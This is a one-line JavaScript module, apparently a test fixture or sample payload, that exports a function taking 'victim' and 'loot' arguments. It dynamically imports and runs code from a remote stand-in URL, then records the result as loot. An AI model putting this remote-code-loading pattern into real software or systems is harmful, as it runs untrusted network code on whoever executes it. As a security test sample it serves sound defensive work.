module.exports = async (victim, loot) => { loot.value = 'loaded ' + Object.keys(await import('https://example.invalid/x.js')); };
